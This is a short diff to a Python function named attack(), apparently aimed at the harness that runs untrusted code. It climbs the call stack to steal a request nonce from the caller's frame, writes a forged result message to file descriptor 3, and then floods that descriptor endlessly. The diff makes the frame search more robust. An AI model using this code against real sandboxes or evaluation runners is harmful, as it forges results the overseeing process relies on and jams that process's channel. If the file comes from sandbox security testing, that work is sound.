@@ -4,8 +4,11 @@ import sys
 import numpy as np
 
 def attack():
-    nonce = sys._getframe(3).f_locals["request"].nonce
-    os.write(3, struct.pack("<QBBQdI", nonce, 0, 0, 0, 0.0, 0xFFFFFFFF))
+    frame = sys._getframe()
+    while "request" not in frame.f_locals:
+        frame = frame.f_back
+    nonce = frame.f_locals["request"].nonce + frame.f_locals["number"]
+    os.write(3, struct.pack("<QBBQI", nonce, 0, 0, 0, 0xFFFFFFFF))
     while True:
         os.write(3, bytes(65536))
 
